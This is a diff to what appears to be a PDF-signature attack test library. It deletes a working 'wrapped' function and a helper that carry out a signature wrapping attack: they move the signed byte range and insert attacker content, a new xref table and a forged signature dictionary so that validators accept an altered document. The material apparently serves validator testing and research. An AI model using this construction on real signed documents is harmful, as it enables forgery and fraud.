@@ -176,41 +176,6 @@ def sign_range(pdf: bytes, change: Callable[[list[int]], list[int]], *, key: Sig
     return bytes(signed)
 
 
-def wrapped(pdf: bytes, foreign: bytes) -> bytes:
-    """Signature wrapping (SWA): the covered rest is moved back, and the room holds another document.
-
-    The old end still names the place of its cross-reference table; there stands now one of the attacker, with another
-    page and another signature dictionary, whose range fits the moved rest.
-    """
-    start, stop = gap(pdf)
-    rest = pdf[stop:]
-    place = int(re.findall(rb"startxref\s+(\d+)", rest)[-1])
-    with pikepdf.open(io.BytesIO(pdf)) as opened:
-        entries = {number[0]: entry.offset for number, entry in opened.get_xref_table().items()}
-        page = opened.pages[0].Contents.objgen[0]
-        value = opened.Root.AcroForm.Fields[0].V.objgen[0]
-        trailer = b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (max(entries) + 1, opened.Root.objgen[0])
-    numbers = sorted(entries)
-    table_size = len(b"xref\n") + len(_table(dict.fromkeys(numbers, 0))) + len(trailer)
-    contents = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (page, len(foreign), foreign)
-    entries[page] = place + table_size
-    entries[value] = entries[page] + len(contents)
-    template = b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
-    template += b"/Contents %s /ByteRange [0 %d %010d %d] >>\nendobj\n"
-    size = len(template % (value, pdf[start:stop], start, 0, len(rest)))
-    moved = entries[value] + size
-    signature = template % (value, pdf[start:stop], start, moved, len(rest))
-    room = pdf[start:stop].ljust(place - start) + b"xref\n" + _table(entries) + trailer + contents + signature
-    return pdf[:start] + room + rest
-
-
-def _table(entries: dict[int, int]) -> bytes:
-    lines = b"0 1\n0000000000 65535 f \n"
-    for number, offset in sorted(entries.items()):
-        lines += b"%d 1\n%010d 00000 n \n" % (number, offset)
-    return lines
-
-
 def weak_key() -> SigningKey:
     """RSA-1024 under the good root."""
     private = rsa.generate_private_key(65537, 1024)
